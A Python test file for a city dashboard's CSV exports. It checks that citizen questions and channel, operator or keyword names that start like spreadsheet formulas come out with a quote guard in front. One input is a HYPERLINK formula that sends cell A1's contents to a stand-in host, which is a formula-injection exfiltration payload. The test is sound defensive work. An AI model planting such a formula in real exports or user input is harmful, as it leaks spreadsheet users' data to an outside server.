"""The dashboard's CSV exports keep what people wrote inert in a spreadsheet: a citizen's question, a channel's,
operator's or keyword's name starting as a formula comes out with the guard in front; the figures and the trends
("+40 %") are ours and come out as they are."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from citymes_app.i18n import words_for
from citymes_app.state.statistics_csv import EXPORTS
from citymes_app.state.statistics_rows import ChannelLine, KeywordLine, OperatorLine, UnansweredLine, statistics_view
from tests.state.test_statistics_rows import town_dashboard

EN = words_for("en")
FORMULA = '=HYPERLINK("https://example.test/?d="&A1,"Cliqueu")'


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_texts_people_wrote_come_out_inert_and_our_figures_unchanged() -> None:
    view = replace(
        statistics_view(town_dashboard(), EN),
        unanswered=[UnansweredLine(FORMULA, 3)],
        channels=[ChannelLine("@SUM(1+1)", "Telegram", 1, 2)],
        operators=[OperatorLine("-2+3", 1, 1, "1 min", "2 min", 0)],
        keywords=[KeywordLine("+HORARIS", "CA", 7, 5, "+40 %", "up")],
    )
    assert rows(EXPORTS["unanswered"](view, EN))[1] == ["'" + FORMULA, "3"]
    assert rows(EXPORTS["channels"](view, EN))[1] == ["'@SUM(1+1)", "Telegram", "1", "2"]
    assert rows(EXPORTS["operators"](view, EN))[1] == ["'-2+3", "1", "1", "1 min", "2 min", "0"]
    assert rows(EXPORTS["keywords"](view, EN))[1] == ["'+HORARIS", "CA", "7", "5", "+40 %"]
